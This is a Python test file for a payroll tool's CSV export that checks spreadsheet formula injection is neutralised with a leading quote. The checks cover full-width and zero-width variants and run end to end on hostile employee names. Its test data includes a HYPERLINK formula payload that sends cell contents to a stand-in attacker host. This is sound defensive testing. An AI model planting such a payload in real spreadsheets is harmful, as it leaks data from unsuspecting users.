"""CSV formula injection (SPEC §10.8, issue 12 item 1): text that a spreadsheet would run as a
formula is written with a leading ', numbers stay numbers — in every CSV kehu writes."""
from __future__ import annotations

import csv
import json
import unicodedata
from decimal import Decimal

import pytest
from click.testing import CliRunner
from hypothesis import given, strategies as st

from builders import tiny_month, write_month
from kehu.cli import cli
from kehu.render.safe import FORMULA_STARTS, csv_cell, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    (HYPERLINK, "'" + HYPERLINK),
    ("-1001", "'-1001"),                          # a 工号 is text, even when it reads as a negative number
    (" =1+1", "' =1+1"), ("\t=1+1", "'\t=1+1"), ("\r+1", "'\r+1"), ("\n-1", "'\n-1"),
    ("\u3000=1+1", "'\u3000=1+1"),                # the full-width space
    ("\u200b=1+1", "'\u200b=1+1"), ("\ufeff@x", "'\ufeff@x"),     # zero-width space, BOM
    ("＝1+1", "'＝1+1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠x", "'＠x"), ("﹦1", "'﹦1"),   # full-width / small forms
    ("\t张伟", "'\t张伟"), ("\x00x", "'\x00x"),      # ASVS 1.2.10: a cell never starts with a tab or NUL
    ("", ""), ("   ", "   "), ("张伟", "张伟"), ("1001", "1001"), ("00123", "00123"),
    ("李=娜", "李=娜"), ("a-b", "a-b"), ("'=1", "'=1"), ("−1", "−1"),      # U+2212 minus is no formula start
])
def test_formula_like_text_gets_a_leading_quote(text, written):
    assert csv_cell(text) == written


@pytest.mark.parametrize("number, written", [
    (Decimal("-1.00"), "-1.00"), (Decimal("5000.00"), "5000.00"), (Decimal("0.00"), "0.00"),
    (-3, "-3"), (12, "12"), (None, ""),
])
def test_numbers_stay_numbers(number, written):
    assert csv_cell(number) == written


@given(st.text(max_size=12))
def test_no_written_text_starts_as_a_formula_and_the_text_is_kept(text):
    written = csv_cell(text)
    assert written in (text, "'" + text)
    visible = written.lstrip()
    assert not visible or unicodedata.normalize("NFKC", visible[0])[:1] not in FORMULA_STARTS


def test_write_csv_is_utf8_bom_crlf_and_applies_the_rule_to_headers_and_cells(tmp_path):
    path = write_csv(tmp_path / "x.csv", ["工号", "=头"], [["=1", Decimal("-2.00")], ["1001", 3]])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\r\n") == 3
    assert list(csv.reader(raw.decode("utf-8-sig").splitlines())) == \
        [["工号", "'=头"], ["'=1", "-2.00"], ["1001", "3"]]


# ---------------------------------------------------------------- through kehu run

def _hostile_month(ids: dict, names: dict) -> dict:
    """The tiny month as CSV files (a cell starting with = stays text, as a clerk's export has it),
    with 工号 and 姓名 replaced everywhere they occur."""
    def swap(value):
        return names.get(value, ids.get(value, value)) if isinstance(value, str) else value
    return {name.replace(".xlsx", ".csv"): {sheet: [[swap(v) for v in row] for row in rows]
                                            for sheet, rows in sheets.items()}
            for name, sheets in tiny_month().items()}


def test_payroll_csv_neutralises_hostile_ids_and_names_and_keeps_the_money(tmp_path):
    ids = {"1001": "-1001", "1002": "@1002"}                       # 1003 王强 stays as it is
    names = {"张伟": HYPERLINK, "李娜": "＋李娜"}
    folder = write_month(tmp_path / "in", _hostile_month(ids, names))
    out = tmp_path / "out"
    run = CliRunner().invoke(cli, ["run", str(folder), "--month", "2026-10", "--out", str(out)])
    assert run.exit_code == 0, run.output
    rows = list(csv.reader((out / "2026-10" / "payroll.csv").read_text(encoding="utf-8-sig").splitlines()))
    employees = json.loads((out / "2026-10" / "results.json").read_text(encoding="utf-8"))["employees"]
    by_id = {e["employee_id"]: e for e in employees}
    assert sorted((r[0], r[1]) for r in rows[1:]) == sorted([
        ("'-1001", "'" + HYPERLINK), ("'@1002", "'＋李娜"), ("1003", "王强")])
    for row in rows[1:]:
        e = by_id[row[0].removeprefix("'")]                        # results.json keeps the text as it came
        assert row[1].removeprefix("'") == e["name"]
        assert row[2:] == [e["performance_base"], e["kpi"]["total"], e["deductions_total"], e["performance_pay"]]
        assert all(Decimal(cell) >= 0 for cell in row[2:])        # numbers, written as numbers
